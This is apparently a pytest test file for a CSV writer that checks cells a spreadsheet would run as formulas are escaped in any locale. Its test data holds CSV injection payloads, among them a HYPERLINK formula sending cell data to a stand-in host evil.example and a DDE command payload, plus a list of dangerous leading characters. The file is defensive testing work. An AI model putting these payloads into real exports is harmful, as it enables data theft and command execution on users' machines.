"""The one CSV writer (prompts.results.csv_text): no cell a spreadsheet would run as a formula, numbers kept, in
whichever locale the file is opened (Excel splits a .csv on ``;`` in de, fr, nl…, on ``,`` elsewhere)."""

from __future__ import annotations

import csv
import io
import re

from prompts.results import csv_text

# What makes a cell a formula (OWASP; | and % as defusedcsv; the fullwidth forms as a spreadsheet might fold them)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "|", "%", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-\d[\d,]*(\.\d+)?%?")  # a negative number: read as that number, never a formula
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "-",
    "|cmd",
    "%0A",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    " =1+1",
    '"=1+1"',
]
# A formula after a separator a spreadsheet may split on: each written the same with a ' before each formula
INSIDE = {
    "x;=1+1": "x;'=1+1",
    "x;@SUM(1+1)": "x;'@SUM(1+1)",
    "y,@SUM(1+1)": "y,'@SUM(1+1)",
    "a, -2+3; +1": "a, '-2+3; '+1",
    'q;"=1+1"': 'q;"\'=1+1"',
    "x\t=1": "x\t'=1",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "one\n=1+1\r\n@SUM(1)": "one\n'=1+1\r\n'@SUM(1)",
    "x;＝1+1": "x;'＝1+1",
    "x;|cmd,%0A": "x;'|cmd,'%0A",
    "scores 3,-5": "scores 3,'-5",  # split out of its quoted cell, "-5" would keep the closing quote: -5"
    "-1,234;-5": "'-1,234;'-5",  # not only a number as a whole
}


def fragments(text: str) -> list[str]:
    """Every cell a mismatched locale could make of the written text: each line split on ``;``, ``,`` and a tab,
    without the blanks and quotes a spreadsheet may trim."""
    lines = re.split(r"\r\n|\r|\n", text)
    return [part.lstrip(' "') for sep in (";", ",", "\t") for line in lines for part in line.split(sep)]


def runs_in_some_locale(text: str) -> list[str]:
    return [part for part in fragments(text) if part.startswith(DANGEROUS) and not NUMBER.fullmatch(part)]


def test_cells_that_would_run_as_formulas_are_written_as_text() -> None:
    text = csv_text([["kind", "text"], *(["learned_or_taught", payload] for payload in PAYLOADS)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[1:]] == [
        *("'" + payload for payload in PAYLOADS[:-2]),
        " '=1+1",  # a spreadsheet may trim the blank
        '"\'=1+1"',  # or the quote
    ], "the text as typed, with a ' before the formula"
    assert not [cell for row in rows for cell in row if cell.lstrip(' "').startswith(DANGEROUS)]
    assert not runs_in_some_locale(text)


def test_a_formula_after_a_separator_is_written_as_text() -> None:
    """In a locale whose separator is another one, ``x;=1+1`` becomes two cells, ``x`` and ``=1+1``, even quoted."""
    text = csv_text([["kind", "text"], *(["learned_or_taught", payload] for payload in INSIDE)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[1:]] == list(INSIDE.values()), "the text as typed, a ' before each formula"
    assert not runs_in_some_locale(text), "no cell a spreadsheet in any locale would run"


def test_a_carriage_return_inside_a_cell_does_not_split_its_row() -> None:
    text = csv_text([["kind", "text"], ["learned_or_taught", "line one\rline two"], ["learned_or_taught", "3"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["kind", "text"],
        ["learned_or_taught", "line one\rline two"],
        ["learned_or_taught", "3"],
    ]


def test_numbers_stay_numbers() -> None:
    text = csv_text([["Net promoter score", "-25", -3, -0.5, 4, None, "-12%", "-1,234.5", "12", "a-b", "'=x"]])
    assert text == 'Net promoter score,-25,-3,-0.5,4,,-12%,"-1,234.5",12,a-b,\'=x\n'
    assert not runs_in_some_locale(text)
